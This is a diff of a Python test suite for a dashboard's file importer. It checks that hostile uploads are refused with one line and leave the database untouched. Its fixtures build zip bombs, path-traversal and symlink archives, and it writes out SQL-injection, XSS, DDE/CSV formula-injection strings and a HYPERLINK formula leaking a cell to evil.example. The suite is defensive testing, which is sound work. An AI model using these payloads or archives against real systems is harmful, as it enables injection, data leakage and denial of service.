@@ -1,30 +1,33 @@
-"""Hostile files through the command line and the upload path: a clear message, never a crash or half an import.
+"""Hand-made hostile files through the command line and the upload path: a clear message, never a crash or half an import.
 
-Generated inputs (hypothesis, fixed seed) and hand-made ones go through both
-`python -m vmdash import` (in-process `cli.main`, plus real processes for the
-largest cases) and `import_files` / `preview` (what the Upload page calls). For
-each: a refusal must be a one-line message naming the file and leave every
-table exactly as it was; an acceptance must load the whole import and nothing
-else, and its undo must restore the facts exactly. Totals are printed at the end
-(`pytest -s`): inputs tried, crashes, partial imports.
+Every file goes through `python -m vmdash import` (in-process `cli.main`, and a
+real process for a few) and through `preview` / `import_files` with an `Upload`
+(what the Upload page calls). A refusal must be one line naming the file and
+leave every table exactly as it was (`Store.fingerprint`); an acceptance must
+load the whole import and nothing else, and its undo must restore the data.
+Text that is legitimately importable (SQL, HTML or a formula in a title) must
+be stored verbatim and stay inert. The generated inputs are in
+test_fuzz_readers.py and share this harness and its totals, printed at the end
+of each module (`pytest -s`): inputs tried, crashes, partial imports.
 """
 
 from __future__ import annotations
 
 import contextlib
 import io
-import os
+import random
+import stat
+import struct
 import subprocess
 import sys
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from hypothesis import HealthCheck, given, seed, settings
-from hypothesis import strategies as st
 
-from vmdash import cli, demo, model
-from vmdash.errors import VmdashError
+from vmdash import cli, demo
+from vmdash.errors import ImportRejected, VmdashError
 from vmdash.ingest import Upload, import_files, preview, undo
 from vmdash.store import Store
 
@@ -32,276 +35,434 @@ ROOT = Path(__file__).resolve().parents[2]
 SAMPLES = ROOT / "data" / "samples"
 TOTALS = {"inputs": 0, "refused": 0, "accepted": 0, "crashes": 0, "partial": 0}
 DATA_TABLES = ("facts", "retention")
+CANONICAL = "date,platform,video_title,campaign,impressions,views,plays_p25,plays_p50,clicks,spend\n"
+GOOD_ROW = "2026-01-05,youtube,Hostile test,Hostile campaign,1000,400,300,200,12,9.5\n"
+
+
+class Harness:
+    """A database holding the sample exports, kept open so each check costs milliseconds.
+
+    The command line's own Store opens the same file in this process, which DuckDB
+    serves from the same instance.
+    """
+
+    def __init__(self, path: Path):
+        self.path = path
+        self.store = Store(path, idle_release_s=None)
+
+    def fingerprint(self) -> dict:
+        return self.store.fingerprint()
+
+    def data(self) -> dict:
+        fp = self.fingerprint()
+        return {t: fp[t] for t in DATA_TABLES}
 
 
 @pytest.fixture(scope="module")
-def db(tmp_path_factory) -> Path:
+def harness(tmp_path_factory) -> Harness:
     path = tmp_path_factory.mktemp("hostile") / "vmdash.duckdb"
-    s = Store(path, idle_release_s=None)
-    demo.load_samples(s)
-    s.close()
-    yield path
-    print(f"\nhostile inputs: {TOTALS}")
+    h = Harness(path)
+    demo.load_samples(h.store)
+    yield h
+    h.store.close()
+    print(f"\nhostile inputs so far: {TOTALS}")
+    assert TOTALS["crashes"] == 0 and TOTALS["partial"] == 0, TOTALS
 
 
-def _fingerprint(db: Path) -> dict:
-    s = Store(db, idle_release_s=None)
-    try:
-        return s.fingerprint()
-    finally:
-        s.close()
-
-
-def _data(fingerprint: dict) -> dict:
-    return {t: fingerprint[t] for t in DATA_TABLES}
-
-
-def _cli_import(db: Path, path: Path) -> tuple[int, str]:
+def cli_import(db: Path, path: Path) -> tuple[int, str]:
+    """`python -m vmdash import PATH` in this process: exit code and everything it printed."""
     err, out = io.StringIO(), io.StringIO()
     with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
         code = cli.main(["import", str(path), "--db", str(db)])
     return code, err.getvalue() + out.getvalue()
 
 
-def check(db: Path, path: Path, name: str | None = None) -> str:
+def check(h: Harness, path: Path, name: str | None = None, expect: str | None = None) -> str:
     """Run one file through both paths; returns 'refused' or 'accepted'. Any other outcome fails."""
     name = name or path.name
     TOTALS["inputs"] += 1
-    before = _fingerprint(db)
+    before = h.fingerprint()
     try:
-        code, said = _cli_import(db, path)
+        code, said = cli_import(h.path, path)
     except BaseException as exc:  # a traceback would reach the user
         TOTALS["crashes"] += 1
         raise AssertionError(f"{name}: the command line crashed: {exc!r}") from exc
-    after = _fingerprint(db)
+    after = h.fingerprint()
     if code != 0:
         assert code == 1, said
         lines = [line for line in said.strip().splitlines() if line]
         assert len(lines) == 1 and lines[0].startswith("error: "), said
         assert "Traceback" not in said
-        assert path.name[:40] in said or name[:40] in said, f"the message must name the file: {said}"
+        assert path.name[:40] in said, f"the message must name the file: {said}"
         if after != before:
             TOTALS["partial"] += 1
         assert after == before, f"{name}: a refused import changed the database"
         outcome = "refused"
     else:
         outcome = "accepted"
-        _accepted_whole(db, before, after, name)
+        _accepted_whole(h, before, after, name)
 
     # The upload path: preview (writes nothing) then import, as the Upload page does.
-    s = Store(db, idle_release_s=None)
     try:
-        try:
-            preview(s, Upload(path, name))
-            reports = import_files(s, [Upload(path, name)])
-        except VmdashError as exc:
-            text = str(exc)
-            assert "Traceback" not in text and name[:40] in text, text
-            assert outcome == "refused", f"{name}: the command line took what the upload refused: {text}"
-        except Exception as exc:
-            TOTALS["crashes"] += 1
-            raise AssertionError(f"{name}: the upload path crashed: {exc!r}") from exc
-        else:
-            assert outcome == "accepted", f"{name}: the upload took what the command line refused"
-            assert len(reports) == 1
-    finally:
-        s.close()
-    if outcome == "accepted":
-        # The command line's import was undone above, so the upload loaded it afresh.
-        _accepted_whole(db, before, _fingerprint(db), name)
+        previewed = h.fingerprint()
+        preview(h.store, Upload(path, name))
+        assert h.fingerprint() == previewed, f"{name}: a preview wrote to the database"
+        reports = import_files(h.store, [Upload(path, name)])
+    except VmdashError as exc:
+        text = str(exc)
+        assert "Traceback" not in text and "\n" not in text, text
+        assert name[:40] in text, f"the message must name the file: {text}"
+        assert outcome == "refused", f"{name}: the command line took what the upload refused: {text}"
+        if h.fingerprint() != before:
+            TOTALS["partial"] += 1
+        assert h.fingerprint() == before, f"{name}: a refused upload changed the database"
+    except Exception as exc:
+        TOTALS["crashes"] += 1
+        raise AssertionError(f"{name}: the upload path crashed: {exc!r}") from exc
     else:
-        assert _fingerprint(db) == before
+        assert outcome == "accepted", f"{name}: the upload took what the command line refused"
+        assert len(reports) == 1
+        # The command line's import was undone above, so the upload loaded it afresh.
+        _accepted_whole(h, before, h.fingerprint(), name)
     TOTALS[outcome] += 1
+    if expect is not None:
+        assert outcome == expect, f"{name}: {outcome}, expected {expect}"
     return outcome
 
 
-def _accepted_whole(db: Path, before: dict, after: dict, name: str) -> None:
+def _accepted_whole(h: Harness, before: dict, after: dict, name: str) -> None:
     if after["imports"][0] == before["imports"][0]:
         # The very file already loaded: reported as a duplicate, nothing written.
         assert after == before, f"{name}: a duplicate changed the database"
         return
-    s = Store(db, idle_release_s=None)
-    try:
-        import_id, loaded = s.rows("SELECT import_id, rows_loaded FROM imports ORDER BY import_id DESC LIMIT 1")[0]
-        stored = s.scalar(
-            "SELECT (SELECT count(*) FROM facts WHERE import_id = $id) + "
-            "(SELECT count(*) FROM retention WHERE import_id = $id)",
-            {"id": import_id},
-        )
-        if stored != loaded:
-            TOTALS["partial"] += 1
-        assert stored == loaded, f"{name}: import #{import_id} says {loaded} rows, stored {stored}"
-        undo(s, import_id)
-    finally:
-        s.close()
-    assert _data(_fingerprint(db)) == _data(before), f"{name}: undo did not restore the data"
+    import_id, loaded = h.store.rows("SELECT import_id, rows_loaded FROM imports ORDER BY import_id DESC LIMIT 1")[0]
+    stored = h.store.scalar(
+        "SELECT (SELECT count(*) FROM facts WHERE import_id = $id) + "
+        "(SELECT count(*) FROM retention WHERE import_id = $id)",
+        {"id": import_id},
+    )
+    if stored != loaded or loaded == 0:
+        TOTALS["partial"] += 1
+    assert stored == loaded > 0, f"{name}: import #{import_id} says {loaded} rows, stored {stored}"
+    undo(h.store, import_id)
+    assert {t: h.fingerprint()[t] for t in DATA_TABLES} == {t: before[t] for t in DATA_TABLES}, (
+        f"{name}: undo did not restore the data"
+    )
 
 
-# -- generated ---------------------------------------------------------------------------------
+# -- the hand-made files --------------------------------------------------------------------------
 
-FUZZ = settings(
-    max_examples=70,
-    deadline=None,
-    derandomize=True,
-    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
-)
-HEADERS = [*model.DIMENSION_NAMES, *model.MEASURE_NAMES, "Montant dépensé (EUR)", "Impressions", "Vues", "x", ""]
-CELLS = st.one_of(
-    st.sampled_from(
-        [
-            "1e308",
-            "-5",
-            "1000000000000000000000000000000",
-            "NaN",
-            "inf",
-            "0001-01-01",
-            "9999-12-31",
-            "31/02/2026",
-            "2026-13-45",
-            "45,2 %",
-            "1 234,5",
-            '=HYPERLINK("http://x")',
-            "+cmd|' /C calc'!A0",
-            "@SUM(A1)",
-            "'); DROP TABLE facts; --",
-            "<script>alert(1)</script>",
-            '<img src=x onerror="alert(1)">',
-            "[click](javascript:alert(1))",
-            '"',
-            "",
-            "\u202e\u0000",
-        ]
+
+def _zip(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
+    with zipfile.ZipFile(path, "w", method) as z:
+        for member, data in members.items():
+            z.writestr(member, data)
+    return path
+
+
+def _patched(path: Path, patch: Callable[[bytearray], None]) -> Path:
+    data = bytearray(path.read_bytes())
+    patch(data)
+    path.write_bytes(bytes(data))
+    return path
+
+
+def _central(data: bytearray) -> int:
+    return data.find(b"PK\x01\x02")
+
+
+def _forge_size(data: bytearray) -> None:
+    # Declare 100 bytes in both headers for a member that expands to 23 kB.
+    data[22:26] = struct.pack("<I", 100)
+    data[_central(data) + 24 : _central(data) + 28] = struct.pack("<I", 100)
+
+
+def _encrypt_flag(data: bytearray) -> None:
+    data[6] |= 1
+    data[_central(data) + 8] |= 1
+
+
+def _method_99(data: bytearray) -> None:
+    data[8:10] = struct.pack("<H", 99)
+    data[_central(data) + 10 : _central(data) + 12] = struct.pack("<H", 99)
+
+
+def _symlink_zip(path: Path) -> Path:
+    with zipfile.ZipFile(path, "w") as z:
+        info = zipfile.ZipInfo("table.csv")
+        info.external_attr = (stat.S_IFLNK | 0o777) << 16
+        z.writestr(info, "/etc/passwd")
+    return path
+
+
+def _xlsx_like(path: Path, sheet: bytes) -> Path:
+    return _zip(path, {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet})
+
+
+def _sparse(path: Path, size: int, head: bytes) -> Path:
+    with path.open("wb") as fh:
+        fh.write(head)
+        fh.truncate(size)  # sparse: nothing written to disk
+    return path
+
+
+TIKTOK = (SAMPLES / "tiktok_ads.csv").read_bytes()
+RANDOM = random.Random(20261125)
+
+SQL = "'); DROP TABLE facts; --"
+SCRIPT = "<script>alert(1)</script>"
+IMG = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _csv(text: str, encoding: str = "utf-8") -> Callable[[Path], Path]:
+    return lambda p: (p.write_bytes(text.encode(encoding)), p)[1]
+
+
+def _bytes(data: bytes) -> Callable[[Path], Path]:
+    return lambda p: (p.write_bytes(data), p)[1]
+
+
+# name -> (builder, expected outcome)
+REFUSED: dict[str, Callable[[Path], Path]] = {
+    "empty.csv": _bytes(b""),
+    "bom_only.csv": _bytes(b"\xef\xbb\xbf"),
+    "blank_lines.csv": _bytes(b"\n\n\r\n   \n\t\n"),
+    "header_only.csv": _csv(CANONICAL),
+    "tiktok_header_only.csv": _bytes(TIKTOK.split(b"\n", 1)[0] + b"\n"),
+    "random_binary.csv": _bytes(bytes(RANDOM.getrandbits(8) for _ in range(20_000))),
+    "png_named_csv.csv": _bytes(b"\x89PNG\r\n\x1a\n" + bytes(RANDOM.getrandbits(8) for _ in range(3000))),
+    "pdf_named_csv.csv": _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" * 50),
+    "nul_in_title.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", "Hostile\x00test")),
+    "utf16_broken.csv": _bytes(b"\xff\xfe" + CANONICAL.encode("utf-16-le") + b"\x00\xd8\x41\x00"),
+    "not_utf8_nor_cp1252.csv": _bytes(CANONICAL.encode() + b"2026-01-05,youtube,\x81\x8d\x8f\x90\x9d,C,1,1,1,1,1,1\n"),
+    # Cut mid-line and mid-character: DuckDB 1.5 fails on it with an internal error that
+    # invalidates the database instance for the whole process, so it is refused before.
+    "cut_mid_character.csv": _bytes(
+        b"\n".join((SAMPLES / "google_ads_video.csv").read_bytes().split(b"\n")[:6])[:-30] + b"\xf1"
     ),
-    st.text(max_size=30),
-    st.integers(min_value=-(10**20), max_value=10**20).map(str),
+    "rows_with_other_delimiter.csv": _csv(CANONICAL + GOOD_ROW.replace(",", ";") * 20),
+    "mixed_delimiters_header.csv": _csv("date;platform,impressions\tviews|spend\n2026-01-01;youtube,5\t3|1\n"),
+    "unterminated_quote.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", '"Hostile test') * 3),
+    "only_quotes.csv": _bytes(b'"' * 5000),
+    "carriage_returns_only.csv": _csv((CANONICAL + GOOD_ROW).replace("\n", "\r")),
+    "ten_thousand_columns.csv": _csv(",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join("1" * 10_000) + "\n"),
+    "canonical_then_ten_thousand_columns.csv": _csv(
+        CANONICAL.strip() + "," + ",".join(f"x{i}" for i in range(10_000)) + "\n" + GOOD_ROW
+    ),
+    "three_megabyte_number.csv": _csv("date,platform,impressions\n2026-01-01,youtube," + "9" * 3_000_000 + "\n"),
+    "sql_in_headers.csv": _csv(f'"x{SQL}",{SQL},"{SQL}"""\n1,2,3\n'),
+    "html_in_headers.csv": _csv(f"{SCRIPT},{IMG},<b>views</b>\n1,2,3\n"),
+    "formula_headers.csv": _csv('=1+1,@SUM(A1),+cmd|" /C calc"!A0\n1,2,3\n'),
+    "impossible_date_31_02.csv": _csv(CANONICAL + GOOD_ROW.replace("2026-01-05", "31/02/2026")),
+    "count_of_ten_to_the_thirty.csv": _csv(CANONICAL + GOOD_ROW.replace("1000", "1" + "0" * 30)),
+    "count_of_1e308.csv": _csv(CANONICAL + GOOD_ROW.replace("1000", "1e308")),
+    "count_of_infinity.csv": _csv(CANONICAL + GOOD_ROW.replace("1000", "inf")),
+    "mostly_unreadable_rows.csv": _csv(CANONICAL + GOOD_ROW * 5 + GOOD_ROW.replace("youtube", "myspace") * 30),
+    "zip_bomb.zip": lambda p: _zip(p, {"table.csv": b"date,platform,impressions\n" + b"0" * 60_000_000}),
+    "zip_traversal_up.zip": lambda p: _zip(p, {"../escape.csv": TIKTOK}),
+    "zip_traversal_absolute.zip": lambda p: _zip(p, {"/tmp/escape.csv": TIKTOK}),
+    "zip_traversal_nested.zip": lambda p: _zip(p, {"a/../../escape.csv": TIKTOK}),
+    "zip_traversal_windows.zip": lambda p: _zip(p, {"C:\\Windows\\escape.csv": TIKTOK}),
+    "zip_traversal_backslash.zip": lambda p: _zip(p, {"..\\escape.csv": TIKTOK}),
+    "zip_symlink.zip": _symlink_zip,
+    "zip_forged_size.zip": lambda p: _patched(_zip(p, {"table.csv": TIKTOK}), _forge_size),
+    "zip_bad_checksum.zip": lambda p: _patched(
+        _zip(p, {"t.csv": TIKTOK}, zipfile.ZIP_STORED), lambda d: d.__setitem__(200, d[200] ^ 1)
+    ),
+    "zip_broken_deflate.zip": lambda p: _patched(
+        _zip(p, {"t.csv": TIKTOK}), lambda d: d.__setitem__(200, d[200] ^ 0xFF)
+    ),
+    "zip_password.zip": lambda p: _patched(_zip(p, {"t.csv": TIKTOK}, zipfile.ZIP_STORED), _encrypt_flag),
+    "zip_unknown_method.zip": lambda p: _patched(_zip(p, {"t.csv": TIKTOK}, zipfile.ZIP_STORED), _method_99),
+    "zip_cut_in_half.zip": lambda p: _bytes(_zip(p, {"t.csv": TIKTOK}).read_bytes()[:3000])(p),
+    "zip_many_members.zip": lambda p: _zip(p, {f"t{i}.csv": b"a,b\n1,2\n" for i in range(250)}),
+    "zip_no_table.zip": lambda p: _zip(p, {"readme.md": b"# hello", "inner.zip": b"PK\x05\x06" + b"\0" * 18}),
+    "zip_empty.zip": lambda p: _zip(p, {}),
+    "fake_workbook.xlsx": _bytes(b"PK\x03\x04" + b"\x00" * 200),
+    "broken_workbook.xlsx": lambda p: _xlsx_like(p, b"<worksheet><<<"),
+    "workbook_bomb.xlsx": lambda p: _xlsx_like(p, b" " * 200_000_000),
+    "old_excel_garbage.xls": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000),
+    "over_the_size_cap.csv": lambda p: _sparse(p, 1600 * 1024 * 1024, CANONICAL.encode()),
+}
+
+ACCEPTED: dict[str, Callable[[Path], Path]] = {
+    # A bad byte past the encoding sample: that one line is rejected with its reason.
+    "invalid_utf8_past_sample.csv": _bytes(
+        (CANONICAL + GOOD_ROW * 5000).encode() + GOOD_ROW.replace("test", "t\xe9st").encode("latin-1")
+    ),
+    "negative_counts.csv": _csv(CANONICAL + "2026-01-05,youtube,Neg,C,-1000,-400,-3,-2,-12,-9.5\n"),
+    "quartiles_increase.csv": _csv(CANONICAL + "2026-01-05,youtube,Up,C,1000,400,10,300,12,9.5\n"),
+    "one_bad_row_among_many.csv": _csv(CANONICAL + GOOD_ROW * 40 + GOOD_ROW.replace("2026-01-05", "31/02/2026")),
+    "french_excel_resave.csv": _bytes(
+        "\ufeffdate;platform;video_title;impressions;spend\n05/01/2026;youtube;Éclat;1\u202f234;45,2\n".encode()
+    ),
+    "utf16_with_bom.csv": _bytes(b"\xff\xfe" + (CANONICAL + GOOD_ROW).encode("utf-16-le")),
+    "windows_1252.csv": _bytes((CANONICAL + GOOD_ROW.replace("Hostile", "Hostilé")).encode("cp1252")),
+    "crlf_and_padding.csv": _csv((CANONICAL + GOOD_ROW.replace(",1000,", ",  1000 ,")).replace("\n", "\r\n")),
+    "one_megabyte_title.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", "x" * 1_048_576)),
+    "bidi_and_zero_width_title.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", "\u202eevil\u200b\ufeff")),
+    "sql'); DROP TABLE facts; --.csv": _csv(CANONICAL + GOOD_ROW),
+    "zip_with_a_good_table.zip": lambda p: _zip(p, {"folder/table.csv": TIKTOK, "__MACOSX/._t.csv": b"\0\0"}),
+}
+
+
+def _case(tmp_path: Path, name: str, builder: Callable[[Path], Path]) -> Path:
+    return builder(tmp_path / name)
+
+
+# Seconds each, not milliseconds: still run in CI, in the slow step.
+HEAVY = {"ten_thousand_columns.csv", "canonical_then_ten_thousand_columns.csv", "workbook_bomb.xlsx"}
+
+
+@pytest.mark.parametrize(
+    "name", [pytest.param(n, marks=pytest.mark.slow) if n in HEAVY else n for n in sorted(REFUSED)]
 )
+def test_hostile_files_are_refused_with_one_line_and_nothing_written(harness, tmp_path, name):
+    path = _case(tmp_path, name, REFUSED[name])
+    check(harness, path, expect="refused")
+    assert not (tmp_path.parent / "escape.csv").exists() and not Path("/tmp/escape.csv").exists()
 
 
-@st.composite
-def csv_files(draw) -> tuple[bytes, str]:
-    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
-    headers = draw(st.lists(st.sampled_from(HEADERS), min_size=1, max_size=12))
-    rows = draw(st.lists(st.lists(CELLS, min_size=0, max_size=len(headers) + 2), max_size=12))
-    text = "\n".join(delimiter.join(r) for r in [headers, *rows])
-    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1"]))
-    data = text.encode(encoding, errors="replace")
-    if draw(st.booleans()):
-        cut = draw(st.integers(min_value=0, max_value=len(data)))
-        data = data[:cut]
-    return data, draw(st.sampled_from(["export.csv", "report.txt", "data.tsv"]))
+@pytest.mark.parametrize("name", sorted(ACCEPTED))
+def test_odd_but_readable_files_load_whole(harness, tmp_path, name):
+    check(harness, _case(tmp_path, name, ACCEPTED[name]), expect="accepted")
 
 
-@seed(20261125)
-@FUZZ
-@given(case=csv_files())
-def test_generated_csv_files(db, tmp_path_factory, case):
-    data, name = case
-    path = tmp_path_factory.mktemp("fuzz") / name
-    path.write_bytes(data)
-    check(db, path)
+def test_out_of_range_dates_never_crash_an_import(harness, tmp_path):
+    # Whether such a row loads is a question of validation (see the app test); here: no crash,
+    # no half import, through both paths.
+    for date in ("0001-01-01", "9999-12-31", "0000-01-01", "99999-01-01", "2026-13-45", "1899-12-30"):
+        path = tmp_path / f"date_{date}.csv"
+        path.write_text(CANONICAL + GOOD_ROW.replace("2026-01-05", date), encoding="utf-8")
+        check(harness, path)
 
 
-@seed(20261126)
-@FUZZ
-@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".csv", ".xlsx", ".zip", ".txt"]))
-def test_random_bytes(db, tmp_path_factory, data, suffix):
-    path = tmp_path_factory.mktemp("bytes") / f"random{suffix}"
-    path.write_bytes(data)
-    check(db, path)
+# -- what an accepted hostile text becomes ---------------------------------------------------------
+
+HOSTILE_TEXTS = [SQL, SCRIPT, IMG, "[click me](javascript:alert(1))", FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
 
 
-SAMPLE_FILES = sorted(SAMPLES.glob("*.csv"))
+@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=["sql", "script", "img", "mdlink", "hyperlink", "dde", "minus"])
+def test_hostile_titles_are_stored_verbatim_and_inert(harness, tmp_path, text):
+    quoted = '"' + text.replace('"', '""') + '"'
+    path = tmp_path / "titles.csv"
+    path.write_text(
+        CANONICAL + f"2026-01-06,youtube,{quoted},{quoted},1000,400,300,200,12,9.5\n",
+        encoding="utf-8",
+    )
+    tables = set(harness.fingerprint())
+    assert check(harness, path, expect="accepted") == "accepted"
+    # Loaded once more, kept, and read back exactly: a title is a value, never SQL.
+    reports = import_files(harness.store, [Upload(path, path.name)])
+    rows = harness.store.rows(
+        "SELECT video_title, campaign FROM facts WHERE import_id = $id", {"id": reports[0].import_id}
+    )
+    try:
+        assert rows == [(text, text)]
+        assert set(harness.fingerprint()) == tables
+        assert harness.store.scalar("SELECT count(*) FROM facts") > 1
+    finally:
+        undo(harness.store, reports[0].import_id)
 
 
-@seed(20261127)
-@settings(FUZZ, max_examples=60)
-@given(index=st.integers(min_value=0, max_value=len(SAMPLE_FILES) - 1), share=st.floats(0, 1), flip=st.integers(0, 255))
-def test_truncated_and_corrupted_real_exports(db, tmp_path_factory, index, share, flip):
-    source = SAMPLE_FILES[index]
-    data = bytearray(source.read_bytes())
-    cut = int(len(data) * share)
-    if cut < len(data):
-        data[cut] = flip  # one wrong byte where the file is cut
-    path = tmp_path_factory.mktemp("cut") / f"cut_{source.name}"
-    path.write_bytes(bytes(data[: cut + 1]))
-    check(db, path)
+def test_impossible_numbers_are_flagged_in_the_preview_not_fixed(harness, tmp_path):
+    path = tmp_path / "impossible.csv"
+    path.write_text(
+        CANONICAL + "2026-01-05,tiktok,Odd,C,100,500,10,80,900,-3\n2026-01-06,tiktok,Odd,C,-5,-5,-5,-5,-5,1\n",
+        encoding="utf-8",
+    )
+    report, frames = preview(harness.store, Upload(path, path.name))
+    flagged = {f.check: f.rows for part in report.parts for f in part.flags}
+    assert flagged == {
+        "quartile plays increase (25 % ≥ 50 % ≥ 75 % ≥ 95 % ≥ 100 % expected)": (1,),
+        "more views than impressions": (1,),
+        "more clicks than impressions": (1,),
+        "negative spend": (1,),
+        "a negative count": (2,),
+    }
+    assert frames[0]["impressions"].tolist() == [100, -5]  # kept as exported
 
 
-# -- hand-made ---------------------------------------------------------------------------------
+@pytest.mark.xfail(
+    strict=True,
+    reason="sqlkit.parse_expr casts 'int' fields with CAST(round(x) AS BIGINT), which raises on "
+    "1e30/inf/nan: one such cell refuses the whole file with DuckDB's 'Conversion Error' text "
+    "instead of rejecting that row as 'impressions' is not a number",
+)
+def test_one_absurd_count_rejects_its_row_not_the_file(harness, tmp_path):
+    path = tmp_path / "absurd.csv"
+    path.write_text(CANONICAL + GOOD_ROW * 30 + GOOD_ROW.replace("1000", "1" + "0" * 30), encoding="utf-8")
+    report, _ = preview(harness.store, Upload(path, path.name))
+    assert report.rows_rejected == 1
+    assert "impressions" in report.parts[0].rejections[0].reason
 
 
-def test_empty_and_header_only_files_are_refused(db, tmp_path):
-    empty = tmp_path / "empty.csv"
-    empty.write_bytes(b"")
-    header = tmp_path / "header_only.csv"
-    header.write_text("date,platform,impressions,views\n", encoding="utf-8")
-    assert check(db, empty) == "refused"
-    assert check(db, header) == "refused"
+@pytest.mark.xfail(
+    strict=True,
+    reason="sqlkit.number reads 'nan' and 'inf' with TRY_CAST(... AS DOUBLE), so spend = NaN or "
+    "Infinity is stored and poisons every sum (and CPM, CPV, ROAS) of its group; it should be "
+    "rejected as not a number",
+)
+@pytest.mark.parametrize("value", ["nan", "inf", "-Infinity"])
+def test_nan_and_infinity_are_not_numbers(harness, tmp_path, value):
+    path = tmp_path / "nan.csv"
+    path.write_text(CANONICAL + GOOD_ROW * 30 + GOOD_ROW.replace("9.5", value), encoding="utf-8")
+    report, _ = preview(harness.store, Upload(path, path.name))
+    assert report.rows_rejected == 1
 
 
-def test_ten_thousand_columns_and_a_one_megabyte_cell(db, tmp_path):
-    wide = tmp_path / "wide.csv"
-    wide.write_text(",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join("1" * 10_000) + "\n")
-    assert check(db, wide) == "refused"
-    big_cell = tmp_path / "big_cell.csv"
-    big_cell.write_text(f"date,platform,video_title,impressions\n2026-01-01,youtube,{'x' * 1_048_576},10\n")
-    check(db, big_cell)
+def test_the_two_paths_say_the_same_thing(harness, tmp_path):
+    path = _case(tmp_path, "zip_traversal_up.zip", REFUSED["zip_traversal_up.zip"])
+    _, said = cli_import(harness.path, path)
+    with pytest.raises(ImportRejected) as refused:
+        import_files(harness.store, [Upload(path, path.name)])
+    assert said.strip() == f"error: {refused.value}"
+    assert "'../escape.csv' points outside the archive" in said
 
 
-def test_sql_and_html_in_headers_and_titles_are_stored_verbatim_or_refused(db, tmp_path):
-    title = "'); DROP TABLE facts; -- <script>alert(1)</script>"
-    titled = tmp_path / "titles.csv"
-    titled.write_text(f'date,platform,video_title,impressions\n2026-01-02,youtube,"{title}",10\n', encoding="utf-8")
-    assert check(db, titled) == "accepted"
-    headers = tmp_path / "sql_headers.csv"
-    headers.write_text('"x""); DROP TABLE facts; --",<b>views</b>\n1,2\n', encoding="utf-8")
-    assert check(db, headers) == "refused"
+# -- real processes -------------------------------------------------------------------------------
+
+PROCESS_CASES = ["zip_bomb.zip", "zip_traversal_up.zip", "random_binary.csv", "sql_in_headers.csv", "header_only.csv"]
 
 
-def test_zip_bomb_and_unsafe_members_are_refused(db, tmp_path):
-    bomb = tmp_path / "bomb.zip"
-    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr("table.csv", b"date,platform,impressions\n" + b"0" * 50_000_000)
-    assert check(db, bomb) == "refused"
-    for member in ("../escape.csv", "/etc/evil.csv", "a/../../up.csv"):
-        unsafe = tmp_path / f"unsafe_{abs(hash(member))}.zip"
-        with zipfile.ZipFile(unsafe, "w") as z:
-            z.writestr(member, (SAMPLES / "tiktok_ads.csv").read_bytes())
-        assert check(db, unsafe) == "refused"
-        assert not (tmp_path.parent / "escape.csv").exists()
-
-
-def test_a_two_gigabyte_upload_is_refused_before_parsing(db, tmp_path):
-    huge = tmp_path / "huge.csv"
-    with huge.open("wb") as fh:
-        fh.write(b"date,platform,impressions\n")
-        fh.truncate(2 * 1024**3)  # sparse: no disk written
-    assert check(db, huge) == "refused"
-    # A real process too: refused with one line, in seconds, without reading 2 GB.
-    done = subprocess.run(
-        [sys.executable, "-m", "vmdash", "import", str(huge), "--db", str(db)],
+def _process_import(db: Path, path: Path) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "vmdash", "import", str(path), "--db", str(db)],
         cwd=ROOT,
         capture_output=True,
         text=True,
         timeout=120,
-        env={**os.environ},
     )
+
+
+@pytest.mark.slow
+def test_real_processes_refuse_with_one_line(harness, tmp_path):
+    before = harness.fingerprint()
+    harness.store.close()  # another process cannot open a file this one holds
+    for name in PROCESS_CASES:
+        TOTALS["inputs"] += 1
+        done = _process_import(harness.path, _case(tmp_path, name, REFUSED[name]))
+        assert done.returncode == 1, done
+        assert "Traceback" not in done.stderr, done.stderr
+        assert done.stderr.count("\n") == 1 and done.stderr.startswith(f"error: {name}: "), done.stderr
+        assert done.stdout == ""
+        TOTALS["refused"] += 1
+    assert harness.fingerprint() == before
+
+
+def test_a_two_gigabyte_upload_is_refused_before_parsing(harness, tmp_path):
+    huge = _sparse(tmp_path / "huge.csv", 2 * 1024**3, CANONICAL.encode())
+    assert huge.stat().st_blocks * 512 < 10 * 1024**2  # really sparse: nothing was written
+    check(harness, huge, expect="refused")
+    before = harness.fingerprint()
+    harness.store.close()
+    TOTALS["inputs"] += 1
+    done = _process_import(harness.path, huge)
     assert done.returncode == 1
-    assert "huge.csv" in done.stderr and "Traceback" not in done.stderr
-
-
-def test_quartiles_that_increase_and_views_above_impressions_are_flagged_not_fixed(db, tmp_path):
-    odd = tmp_path / "impossible.csv"
-    odd.write_text(
-        "date,platform,video_title,impressions,views,clicks,spend,plays_p25,plays_p50\n"
-        "2026-01-03,youtube,Odd,100,500,900,-3,10,80\n",
-        encoding="utf-8",
+    assert (
+        done.stderr.strip()
+        == "error: huge.csv: the file is 2,048 MB, over the 1,536 MB limit; split the export by date range"
     )
-    s = Store(db, idle_release_s=None)
-    try:
-        report, _ = preview(s, Upload(odd, odd.name))
-    finally:
-        s.close()
-    flagged = " ".join(f.check for part in report.parts for f in part.flags)
-    assert flagged, "impossible numbers must be flagged in the preview"
